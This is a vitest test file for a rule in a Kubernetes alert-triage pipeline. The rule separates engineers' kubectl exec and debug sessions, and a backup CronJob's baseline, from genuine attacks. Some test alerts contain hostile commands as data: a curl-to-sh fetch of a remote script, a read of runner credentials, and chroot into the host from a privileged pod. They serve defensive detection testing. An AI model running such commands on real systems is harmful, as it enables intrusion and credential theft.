import { existsSync, readFileSync } from 'node:fs';
import { basename, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { parse as parseCsv } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { readAlerts } from '../../../src/alerts/read.js';
import { readAuditLogs } from '../../../src/cluster/audit.js';
import { loadSnapshots } from '../../../src/cluster/load.js';
import { buildIndex } from '../../../src/cluster/index.js';
import type { AuditActivity, ExecSession, KubeObject } from '../../../src/cluster/model.js';
import { correlate } from '../../../src/triage/correlate.js';
import type { Evidence } from '../../../src/triage/model.js';
import { triageAlert } from '../../../src/triage/pipeline.js';
import { RULES } from '../../../src/triage/rules/index.js';
import { adminActivity, cronFires, kubectlCalls } from '../../../src/triage/rules/admin-activity.js';
import { developerRetry } from '../../../src/triage/rules/developer-retry.js';
import { alert, containerIdOf, node, owner, pod, snapshot, type AlertOptions } from '../../support/cluster.js';

const N1 = 'node-a';
const N2 = 'node-b';
const shim = { name: 'containerd-shim-runc-v2', commandLine: '/usr/bin/containerd-shim-runc-v2 -namespace k8s.io -id 0123' };

const web = pod('web-1', { namespace: 'shop', node: N1, ip: '10.0.1.5', owner: { kind: 'ReplicaSet', name: 'web-5c7d' }, containers: [{ name: 'web', image: 'nginx:1.27', command: ['nginx', '-g', 'daemon off;'] }, { name: 'sidecar', image: 'envoy', command: ['envoy'] }] });
const webStaging = pod('web-1', { namespace: 'staging', node: N2, ip: '10.0.2.5', containers: [{ name: 'web', image: 'nginx:1.27', command: ['nginx'] }] });
const cache = pod('cache-0', {
  namespace: 'shop',
  node: N1,
  ip: '10.0.1.6',
  containers: [{ name: 'redis', image: 'redis:7', command: ['redis-server'] }],
});
cache.spec.ephemeralContainers = [{ name: 'debugger-abcde', image: 'nicolaka/netshoot', targetContainerName: 'redis' }];
cache.status!.ephemeralContainerStatuses = [{ name: 'debugger-abcde', containerID: `containerd://${'e'.repeat(64)}` }];
const privileged = pod('agent-1', {
  namespace: 'legacy',
  node: N2,
  ip: '10.0.2.9',
  containers: [{ name: 'agent', image: 'agent:1', command: ['agent'], securityContext: { privileged: true }, volumeMounts: [{ name: 'root', mountPath: '/host' }] }],
  volumes: [{ name: 'root', hostPath: { path: '/' } }],
});
const backupCronJob: KubeObject = { apiVersion: 'batch/v1', kind: 'CronJob', metadata: { name: 'cache-backup', namespace: 'batch', uid: 'cj-1' }, spec: { schedule: '30 */4 * * *' } };
const backupJob = owner('Job', 'cache-backup-29919390', 'batch', { kind: 'CronJob', name: 'cache-backup' });
const backupScript = 'kubectl -n shop exec cache-0 -c redis -- redis-cli BGSAVE && sleep 5 && kubectl cp -c redis shop/cache-0:/data/dump.rdb /backup/dump.rdb';
const backupPod = pod('cache-backup-29919390-fz9wq', {
  namespace: 'batch',
  node: N1,
  ip: '10.0.30.5',
  owner: { kind: 'Job', name: 'cache-backup-29919390' },
  created: '2026-11-20T08:30:00Z',
  containers: [{ name: 'backup', image: 'bitnami/kubectl:1.30', command: ['/bin/sh', '-c'], args: [backupScript] }],
});
backupPod.spec.serviceAccountName = 'cache-backup';
// a hand-made Job whose name does not fit the schedule (08:31 is not a "30 */4" minute)
const manualJob = owner('Job', 'cache-backup-29919391', 'batch', { kind: 'CronJob', name: 'cache-backup' });
const manualPod = pod('cache-backup-29919391-x1y2z', {
  namespace: 'batch',
  node: N1,
  ip: '10.0.30.6',
  owner: { kind: 'Job', name: 'cache-backup-29919391' },
  created: '2026-11-20T08:31:00Z',
  containers: [{ name: 'backup', image: 'bitnami/kubectl:1.30', command: ['/bin/sh', '-c'], args: [backupScript] }],
});
manualPod.spec.serviceAccountName = 'cache-backup';

const OBJECTS: KubeObject[] = [node(N1, '10.0.1.10'), node(N2, '10.0.2.20'), web, webStaging, cache, privileged, backupCronJob, backupJob, backupPod, manualJob, manualPod];

const T0 = '2026-11-20T09:00:00.000Z';
const at = (seconds: number) => new Date(Date.parse(T0) + seconds * 1000).toISOString();

function session(o: Partial<ExecSession>): ExecSession {
  return { kind: 'exec', user: 'dana@example.com', groups: ['oidc:devs', 'system:authenticated'], sourceIps: ['192.0.2.88'], namespace: 'shop', pod: 'web-1', container: 'web', command: ['sh'], tty: true, start: at(0), end: at(300), code: 101, ...o };
}

function indexWith(sessions: ExecSession[], activities: AuditActivity[] = []) {
  const s = snapshot(OBJECTS, sessions);
  s.auditActivities = activities;
  return buildIndex([s]);
}

function inWeb(o: Partial<AlertOptions> & { cmd: string; ancestors?: AlertOptions['ancestors'] }) {
  return alert({ host: N1, time: o.time ?? at(60), action: o.action, container: o.container ?? { id: containerIdOf(web), name: 'web', pod: 'web-1', namespace: 'shop' }, process: { name: o.cmd.split(' ')[0], commandLine: o.cmd, tty: o.process?.tty }, ancestors: o.ancestors ?? [shim] });
}

function evaluate(a: ReturnType<typeof alert>, sessions: ExecSession[], policy?: unknown, activities: AuditActivity[] = []): Evidence[] {
  const index = indexWith(sessions, activities);
  const ctx = { alert: a, correlation: correlate(a, index), index, policy };
  return [...adminActivity.evaluate(ctx), ...developerRetry.evaluate(ctx)];
}

describe('admin-activity: what it explains', () => {
  it("an alert running exactly the command of a person's exec session: strong, naming user, pod, command and times", () => {
    const ev = evaluate(inWeb({ cmd: 'nc -zv cache-0.cache.shop.svc 6379', time: at(1) }), [session({ command: ['nc', '-zv', 'cache-0.cache.shop.svc', '6379'], tty: false, end: at(3) })]);
    expect(ev).toHaveLength(1);
    expect(ev[0]).toMatchObject({ rule: 'admin-activity', direction: 'benign', strength: 'strong', cause: 'admin-activity' });
    expect(ev[0].message).toContain('dana@example.com');
    expect(ev[0].message).toContain('shop/web-1');
    expect(ev[0].message).toContain('nc -zv cache-0.cache.shop.svc 6379');
    expect(ev[0].message).toContain('2026-11-20T09:00:00Z');
    expect(ev[0].message).toContain('2026-11-20T09:00:01Z');
  });

  it("a child of the session's interactive shell", () => {
    const ev = evaluate(inWeb({ cmd: 'cat /etc/nginx/nginx.conf', ancestors: [{ name: 'sh', commandLine: 'sh' }, shim] }), [session({})]);
    expect(ev[0]).toMatchObject({ direction: 'benign', strength: 'strong', facts: expect.objectContaining({ link: 'ancestor' }) });
  });

  it('a process in the ephemeral debugger container that kubectl debug created', () => {
    const a = alert({ host: N1, time: at(120), container: { id: 'e'.repeat(12), name: 'debugger-abcde', pod: 'cache-0', namespace: 'shop' }, process: { name: 'tcpdump', commandLine: 'tcpdump -i eth0 port 6379', tty: true }, ancestors: [{ name: 'zsh' }] });
    const ev = evaluate(a, [session({ kind: 'ephemeral-container', pod: 'cache-0', container: 'debugger-abcde', targetContainer: 'redis', image: 'nicolaka/netshoot', command: [], start: at(0), end: at(600) })]);
    expect(ev[0]).toMatchObject({ direction: 'benign', strength: 'strong', cause: 'admin-activity' });
    expect(ev[0].message).toMatch(/ephemeral container debugger-abcde/);
  });

  it("a host process under chroot /host on the node of a person's kubectl debug node session", () => {
    const a = alert({ host: N2, time: at(100), process: { name: 'chroot', commandLine: 'chroot /host' }, ancestors: [{ name: 'bash', commandLine: '/bin/bash' }] });
    const debug = session({ kind: 'node-debug', namespace: 'default', pod: 'node-debugger-node-b-x7k2p', container: 'debugger', node: N2, command: [], start: at(0), end: at(900) });
    const ev = evaluate(a, [debug]);
    expect(ev[0]).toMatchObject({ direction: 'benign', strength: 'strong', cause: 'admin-activity' });
    expect(ev[0].message).toContain('kubectl debug node node-b');
    // a bare chroot ancestor (what Defender shows) is less of a proof
    const bare = alert({ host: N2, time: at(200), process: { name: 'rm', commandLine: 'rm -f /etc/cron.d/x' }, ancestors: [{ name: 'bash' }, { name: 'chroot' }] });
    expect(evaluate(bare, [debug])[0]).toMatchObject({ direction: 'benign', strength: 'medium' });
  });

  it('the developer retry: variations of one command, blocked by the EDR, retried minutes apart', () => {
    const tries = [
      session({ command: ['nc', '-zv', 'cache', '6379'], tty: false, start: at(0), end: at(2) }),
      session({ command: ['nc', '-zv', '-w', '3', 'cache', '6379'], tty: false, start: at(50), end: at(53) }),
      session({ command: ['nc', '-zvn', '10.0.1.6', '6379'], tty: false, start: at(150), end: at(152) }),
    ];
    const ev = evaluate(inWeb({ cmd: 'nc -zvn 10.0.1.6 6379', time: at(151), action: 'blocked' }), tries);
    const retry = ev.find((e) => e.rule === 'developer-retry');
    expect(retry).toMatchObject({ direction: 'benign', cause: 'admin-activity', strength: 'strong' });
    expect(retry!.message).toMatch(/3 times within 3 min.*silently blocking an engineer/);
    // not blocked by the EDR: no retry story, admin-activity still explains it
    const detected = evaluate(inWeb({ cmd: 'nc -zvn 10.0.1.6 6379', time: at(151) }), tries);
    expect(detected.some((e) => e.rule === 'developer-retry')).toBe(false);
  });

  it("the exception the cluster proves: a CronJob's own kubectl cp, from its own pod IP, during its scheduled run", () => {
    const cp = session({
      user: 'system:serviceaccount:batch:cache-backup',
      groups: ['system:serviceaccounts', 'system:serviceaccounts:batch', 'system:authenticated'],
      sourceIps: ['10.0.30.5'],
      tokenBoundPod: 'cache-backup-29919390-fz9wq',
      pod: 'cache-0',
      container: 'redis',
      command: ['tar', 'cf', '-', '/data/dump.rdb'],
      tty: false,
      start: '2026-11-20T08:30:16.000Z',
      end: '2026-11-20T08:30:17.000Z',
      authorization: 'RBAC: allowed by RoleBinding "cache-backup-exec/shop" of Role "redis-backup" to ServiceAccount "cache-backup/batch"',
    });
    const a = alert({ host: N1, time: '2026-11-20T08:30:16.500Z', container: { id: containerIdOf(cache), name: 'redis', pod: 'cache-0', namespace: 'shop' }, process: { name: 'tar', commandLine: 'tar cf - /data/dump.rdb' }, ancestors: [shim] });
    const ev = evaluate(a, [cp]);
    expect(ev).toHaveLength(1);
    expect(ev[0]).toMatchObject({ direction: 'benign', cause: 'workload-baseline', strength: 'strong' });
    expect(ev[0].message).toMatch(/CronJob batch\/cache-backup's own spec/);
    expect(ev[0].message).toMatch(/own pod IP 10\.0\.30\.5/);
    expect(ev[0].message).toMatch(/08:30 UTC scheduled run/);
  });

  it('an audit-based alert about a person’s exec request is that session', () => {
    const a = alert({ time: at(1), title: 'Attach/Exec Pod' });
    a.apiRequest = { user: 'dana@example.com', verb: 'create', resource: 'pods', subresource: 'exec', namespace: 'shop', name: 'web-1' };
    const ev = evaluate(a, [session({})]);
    expect(ev[0]).toMatchObject({ direction: 'benign', cause: 'admin-activity', facts: expect.objectContaining({ link: 'api-request' }) });
    // the privileged hostPID pod that kubectl debug node creates
    const created = alert({ time: at(1), title: 'Create HostPid Pod' });
    created.apiRequest = { user: 'dana@example.com', verb: 'create', resource: 'pods', namespace: 'default', name: 'node-debugger-node-b-x7k2p' };
    const debug = session({ kind: 'node-debug', namespace: 'default', pod: 'node-debugger-node-b-x7k2p', container: 'debugger', node: N2, command: [], start: at(0), end: at(900) });
    expect(evaluate(created, [debug])[0]).toMatchObject({ direction: 'benign', cause: 'admin-activity' });
    expect(evaluate(created, [{ ...debug, user: 'mallory@example.com' }])).toEqual([]);
  });

  it('trusted users and groups from the policy', () => {
    const a = inWeb({ cmd: 'sh' });
    const trustedByGroup = evaluate(a, [session({})], { trustedGroups: ['oidc:dev*'] });
    expect(trustedByGroup[0]).toMatchObject({ direction: 'benign' });
    expect(trustedByGroup[0].message).toContain('trusted by the policy as group oidc:devs');
    // lists exist and the user is not on them: nothing benign, a weak doubt
    const unlisted = evaluate(a, [session({})], { trustedUsers: ['alice@example.com'] });
    expect(unlisted).toEqual([expect.objectContaining({ direction: 'malicious', strength: 'weak' })]);
  });
  it('a pod gone from the snapshot that the alert still names: its sessions in the audit log (an ephemeral CI runner)', () => {
    const gone = { id: 'f'.repeat(12), name: 'dind', pod: 'runner-x7k2p', namespace: 'ci' };
    const runnerSession = session({ namespace: 'ci', pod: 'runner-x7k2p', container: 'dind', command: ['sh'], start: at(0), end: at(400) });
    const a = alert({ host: N1, time: at(200), container: gone, process: { name: 'docker', commandLine: 'docker system df' }, ancestors: [{ name: 'sh', commandLine: 'sh' }] });
    const ev = evaluate(a, [runnerSession]);
    expect(ev[0]).toMatchObject({ direction: 'benign', cause: 'admin-activity', strength: 'strong', facts: expect.objectContaining({ pod: 'runner-x7k2p', link: 'ancestor' }) });
  });

});

describe('admin-activity: traps', () => {
  it('a gone pod: a session into it that ended before the alert, or into another gone pod, explains nothing', () => {
    const gone = { id: 'f'.repeat(12), name: 'dind', pod: 'runner-x7k2p', namespace: 'ci' };
    const a = alert({ host: N1, time: at(900), container: gone, process: { name: 'cat', commandLine: 'cat /home/runner/.credentials' }, ancestors: [{ name: 'sh', commandLine: 'sh' }] });
    expect(evaluate(a, [session({ namespace: 'ci', pod: 'runner-x7k2p', container: 'dind', start: at(0), end: at(400) })]).filter((e) => e.direction === 'benign')).toEqual([]);
    expect(evaluate(a, [session({ namespace: 'ci', pod: 'runner-q9w8e', container: 'dind', start: at(800), end: at(1000) })]).filter((e) => e.direction === 'benign')).toEqual([]);
  });

  it('a session that ended before the alert (beyond the skew) explains nothing', () => {
    expect(evaluate(inWeb({ cmd: 'sh', time: at(300 + 130) }), [session({})])).toEqual([]);
    expect(evaluate(inWeb({ cmd: 'sh', time: at(300 + 30) }), [session({})])[0]).toMatchObject({ direction: 'benign' }); // within skew
  });

  it('a session into the pod of the same name in another namespace explains nothing', () => {
    expect(evaluate(inWeb({ cmd: 'sh' }), [session({ namespace: 'staging' })])).toEqual([]);
  });

  it('an exec into another container of the pod explains nothing', () => {
    expect(evaluate(inWeb({ cmd: 'sh' }), [session({ container: 'sidecar' })])).toEqual([]);
  });

  it('a denied (403) exec started no process', () => {
    expect(evaluate(inWeb({ cmd: 'sh' }), [session({ code: 403 })])).toEqual([]);
  });

  it('a pod recreated under the same name after the session is not the one exec’d into', () => {
    const recreated = pod('web-2', { namespace: 'shop', node: N1, ip: '10.0.1.7', created: at(3600), containers: [{ name: 'web', image: 'nginx', command: ['nginx'] }] });
    const index = buildIndex([snapshot([...OBJECTS, recreated], [session({ pod: 'web-2', start: at(0), end: at(7200) })])]);
    const a = alert({ host: N1, time: at(60), container: { id: containerIdOf(recreated), name: 'web' }, process: { name: 'sh', commandLine: 'sh' }, ancestors: [shim] });
    expect(adminActivity.evaluate({ alert: a, correlation: correlate(a, index), index })).toEqual([]);
  });

  it('a service-account exec is not troubleshooting', () => {
    const sa = session({ user: 'system:serviceaccount:shop:web', groups: ['system:serviceaccounts'], sourceIps: ['10.0.1.5'], tokenBoundPod: 'web-1' });
    const ev = evaluate(inWeb({ cmd: 'sh' }), [sa]);
    expect(ev).toEqual([expect.objectContaining({ direction: 'malicious', strength: 'medium' })]);
    expect(ev[0].message).toMatch(/service account system:serviceaccount:shop:web.*not an engineer/);
  });

  it("the backup CronJob's token used from anywhere else is an attacker's", () => {
    const replay = session({
      user: 'system:serviceaccount:batch:cache-backup',
      groups: ['system:serviceaccounts'],
      sourceIps: ['203.0.113.45'],
      tokenBoundPod: 'cache-backup-29919390-fz9wq',
      pod: 'cache-0',
      container: 'redis',
      command: ['tar', 'cf', '-', '/data/dump.rdb'],
      start: '2026-11-20T08:30:16.000Z',
      end: '2026-11-20T08:30:17.000Z',
    });
    const a = alert({ host: N1, time: '2026-11-20T08:30:16.500Z', container: { id: containerIdOf(cache), name: 'redis' }, process: { name: 'tar', commandLine: 'tar cf - /data/dump.rdb' }, ancestors: [shim] });
    expect(evaluate(a, [replay])).toEqual([expect.objectContaining({ direction: 'malicious', strength: 'strong' })]);
    // from a cluster address that is not the bound pod's: a token replayed elsewhere
    const elsewhere = evaluate(a, [{ ...replay, sourceIps: ['10.0.1.5'] }]);
    expect(elsewhere[0]).toMatchObject({ direction: 'malicious', strength: 'strong' });
    expect(elsewhere[0].message).toMatch(/replayed elsewhere/);
  });

  it('a Job of the CronJob that its schedule would not have created is not its baseline', () => {
    const manual = session({
      user: 'system:serviceaccount:batch:cache-backup',
      groups: ['system:serviceaccounts'],
      sourceIps: ['10.0.30.6'],
      tokenBoundPod: 'cache-backup-29919391-x1y2z',
      pod: 'cache-0',
      container: 'redis',
      command: ['tar', 'cf', '-', '/data/dump.rdb'],
      start: '2026-11-20T08:31:16.000Z',
      end: '2026-11-20T08:31:17.000Z',
    });
    const a = alert({ host: N1, time: '2026-11-20T08:31:16.500Z', container: { id: containerIdOf(cache), name: 'redis' }, process: { name: 'tar', commandLine: 'tar cf - /data/dump.rdb' }, ancestors: [shim] });
    expect(evaluate(a, [manual])).toEqual([expect.objectContaining({ direction: 'malicious', strength: 'medium' })]);
  });

  it('machine roles, anonymous, kubelet credentials and untrusted impersonation stay suspicious', () => {
    const a = inWeb({ cmd: 'sh' });
    const ci = evaluate(a, [session({ user: 'arn:aws:sts::111122223333:assumed-role/ci-runner/i-0123456789abcdef0', groups: ['system:authenticated'], sourceIps: ['10.0.3.15'] })]);
    expect(ci[0]).toMatchObject({ direction: 'malicious', strength: 'strong' });
    expect(ci[0].message).toMatch(/AWS role session ci-runner\/i-0123456789abcdef0, a machine identity, not a person, from 10\.0\.3\.15, which is neither a node nor a pod/);
    const sso = evaluate(a, [session({ user: 'arn:aws:sts::111122223333:assumed-role/AWSReservedSSO_Admin_0123abcd/erin@example.com', groups: ['system:authenticated'] })]);
    expect(sso[0]).toMatchObject({ direction: 'benign' });
    expect(evaluate(a, [session({ user: 'system:anonymous', groups: ['system:unauthenticated'] })])[0]).toMatchObject({ direction: 'malicious', strength: 'strong' });
    expect(evaluate(a, [session({ user: 'system:node:node-a', groups: ['system:nodes'] })])[0]).toMatchObject({ direction: 'malicious', strength: 'strong' });
    const imp = evaluate(a, [session({ user: 'ops-admin', impersonatedUser: 'frank@example.com' })]);
    expect(imp[0]).toMatchObject({ direction: 'malicious', strength: 'medium' });
    expect(evaluate(a, [session({ user: 'ops-admin', impersonatedUser: 'frank@example.com' })], { trustedUsers: ['ops-admin'] })[0]).toMatchObject({ direction: 'benign' });
  });

  it('a host chroot during a node debug session is not explained while an untrusted exec into a host-access pod on that node is open', () => {
    const a = alert({ host: N2, time: at(100), process: { name: 'chroot', commandLine: 'chroot /host' }, ancestors: [{ name: 'sh' }] });
    const debug = session({ kind: 'node-debug', namespace: 'default', pod: 'node-debugger-node-b-x7k2p', container: 'debugger', node: N2, command: [], start: at(0), end: at(900) });
    const intruder = session({ user: 'arn:aws:sts::111122223333:assumed-role/ci-runner/i-0123456789abcdef0', namespace: 'legacy', pod: 'agent-1', container: 'agent', command: ['bash'], sourceIps: ['10.0.3.15'], start: at(50), end: at(400) });
    const ev = evaluate(a, [debug, intruder]);
    expect(ev.some((e) => e.direction === 'benign')).toBe(false);
    expect(ev[0].message).toMatch(/cannot be told apart from an escape/);
    // when the process chain shows the intruder's own command, correlation places it in that pod: plainly malicious
    const placed = evaluate(a, [debug, { ...intruder, command: ['sh'] }]);
    expect(placed).toEqual([expect.objectContaining({ direction: 'malicious', strength: 'strong' })]);
  });

  it('a host process without chroot or nsenter is not the node debugger’s', () => {
    const a = alert({ host: N2, time: at(100), process: { name: 'curl', commandLine: 'curl -s https://ifconfig.me' }, ancestors: [{ name: 'sh' }] });
    expect(evaluate(a, [session({ kind: 'node-debug', namespace: 'default', pod: 'node-debugger-node-b-x7k2p', node: N2, command: [], start: at(0), end: at(900) })])).toEqual([]);
  });

  it('an interactive process with no session at all, while the audit log covers that time', () => {
    const activity: AuditActivity = { time: at(-600), user: 'dana@example.com', groups: [], verb: 'get', resource: 'pods', sourceIps: [] };
    const later: AuditActivity = { ...activity, time: at(3600) };
    const a = inWeb({ cmd: 'id', process: { tty: true } });
    const ev = evaluate(a, [], undefined, [activity, later]);
    expect(ev).toEqual([expect.objectContaining({ direction: 'malicious', strength: 'medium' })]);
    expect(ev[0].message).toMatch(/no kubectl exec, attach or debug session into shop\/web-1/);
    // no audit data for that time: say nothing
    expect(evaluate(a, [], undefined, [later])).toEqual([]);
  });
});

describe('admin-activity in the pipeline', () => {
  const rules = [...RULES, adminActivity, developerRetry];
  it("a person's troubleshooting shell is a likely false positive with cause admin-activity", () => {
    const index = indexWith([session({})]);
    const r = triageAlert(inWeb({ cmd: 'bash', ancestors: [{ name: 'sh', commandLine: 'sh' }, shim] }), { index, rules });
    expect(r.verdict).toMatchObject({ label: 'likely-false-positive', cause: 'admin-activity' });
  });
  it('an attack indicator inside the same session stays genuine', () => {
    const index = indexWith([session({})]);
    const r = triageAlert(inWeb({ cmd: 'sh -c curl -fsSL http://198.51.100.23/i.sh | sh', ancestors: [{ name: 'sh', commandLine: 'sh' }, shim] }), { index, rules });
    expect(r.verdict).toMatchObject({ label: 'genuine', cause: 'attack' });
  });
  it('a machine role’s shell is genuine', () => {
    const index = indexWith([session({ user: 'arn:aws:sts::111122223333:assumed-role/ci-runner/i-0123456789abcdef0', sourceIps: ['10.0.3.15'] })]);
    const r = triageAlert(inWeb({ cmd: 'sh' }), { index, rules });
    expect(r.verdict.label).toBe('genuine');
  });
});

describe('helpers', () => {
  it('finds kubectl exec and cp calls in a shell script', () => {
    const calls = kubectlCalls(['/bin/sh', '-c', backupScript]);
    expect(calls.map((c) => ({ verb: c.verb, namespace: c.namespace, pod: c.pod, container: c.container, remote: c.remote }))).toEqual([
      { verb: 'exec', namespace: 'shop', pod: 'cache-0', container: 'redis', remote: ['redis-cli', 'BGSAVE'] },
      { verb: 'cp', namespace: 'shop', pod: 'cache-0', container: 'redis', remote: ['tar', 'cf', '-', '/data/dump.rdb'] },
    ]);
    expect(kubectlCalls(['kubectl', 'exec', 'pod/x', '--namespace=y', '--', 'ls', '-l'])[0]).toMatchObject({ pod: 'x', namespace: 'y', remote: ['ls', '-l'] });
  });
  it('reads cron schedules', () => {
    expect(cronFires('30 */4 * * *', new Date('2026-11-20T08:30:00Z'))).toBe(true);
    expect(cronFires('30 */4 * * *', new Date('2026-11-20T08:31:00Z'))).toBe(false);
    expect(cronFires('0 2 * * 1-5', new Date('2026-11-22T02:00:00Z'))).toBe(false); // a Sunday
    expect(cronFires('@daily', new Date('2026-11-22T00:00:00Z'))).toBeUndefined();
  });
});

const CORPUS = fileURLToPath(new URL('../../../../shared/corpus/eks-calico/', import.meta.url));

describe.skipIf(!existsSync(join(CORPUS, 'labels.csv')))('admin-activity on the eks-calico corpus', async () => {
  const labels = new Map<string, { expected: string; cause: string }>();
  if (existsSync(join(CORPUS, 'labels.csv'))) {
    for (const row of parseCsv(readFileSync(join(CORPUS, 'labels.csv'), 'utf8'), { columns: true }) as Record<string, string>[]) {
      labels.set(`${row.file}:${row.record}`, { expected: row.expected, cause: row.cause });
    }
  }
  const results: { key: string; label: string; cause: string; reasons: Evidence[] }[] = [];
  if (labels.size) {
    const snapshots = await loadSnapshots([join(CORPUS, 'cluster.json')], () => {});
    const audit = await readAuditLogs([join(CORPUS, 'audit.jsonl')], () => {});
    snapshots[0].execSessions.push(...audit.execSessions);
    snapshots[0].auditActivities.push(...audit.auditActivities);
    const index = buildIndex(snapshots);
    const files = ['crowdstrike-alerts.json', 'defender-alerts.csv', 'falco.ndjson', 'suricata-eve.json'].map((f) => join(CORPUS, 'alerts', f));
    for await (const ev of readAlerts(files)) {
      if (ev.kind !== 'alert') continue;
      const r = triageAlert(ev.alert, { index, rules: [...RULES, adminActivity, developerRetry] });
      results.push({ key: `alerts/${basename(ev.alert.source.file)}:${ev.alert.source.record}`, label: r.verdict.label, cause: r.verdict.cause, reasons: r.verdict.reasons });
    }
  }
  const expected = (key: string) => labels.get(key)!;

  it('labels every admin-activity alert a likely false positive with cause admin-activity, naming the user', () => {
    const admin = results.filter((r) => expected(r.key).cause === 'admin-activity');
    expect(admin.length).toBeGreaterThanOrEqual(10);
    for (const r of admin) {
      expect({ key: r.key, label: r.label, cause: r.cause }).toEqual({ key: r.key, label: 'likely-false-positive', cause: 'admin-activity' });
      expect(r.reasons[0].message).toMatch(/@example\.com/);
    }
  });

  it("explains the backup CronJob's kubectl cp as its workload baseline", () => {
    const cp = results.filter((r) => r.reasons.some((e) => e.rule === 'admin-activity' && e.cause === 'workload-baseline'));
    expect(cp.length).toBe(1);
    expect(cp[0]).toMatchObject({ label: 'likely-false-positive', cause: 'workload-baseline' });
    expect(expected(cp[0].key).cause).toBe('workload-baseline');
  });

  it('keeps every genuine alert genuine, and names the machine role behind the exec into the privileged pod', () => {
    for (const r of results.filter((x) => expected(x.key).expected === 'genuine')) expect({ key: r.key, label: r.label }).toEqual({ key: r.key, label: 'genuine' });
    const role = results.filter((r) => r.reasons.some((e) => e.rule === 'admin-activity' && e.direction === 'malicious' && /machine identity/.test(e.message)));
    expect(role.length).toBeGreaterThanOrEqual(2);
    expect(role.every((r) => r.label === 'genuine' && expected(r.key).expected === 'genuine')).toBe(true);
  });

  it('says so when a terminal process has no session in the audit log', () => {
    const none = results.filter((r) => r.reasons.some((e) => e.rule === 'admin-activity' && /no kubectl exec, attach or debug session/.test(e.message)));
    expect(none.length).toBeGreaterThanOrEqual(1);
    expect(none.every((r) => r.label === 'genuine')).toBe(true);
  });
});
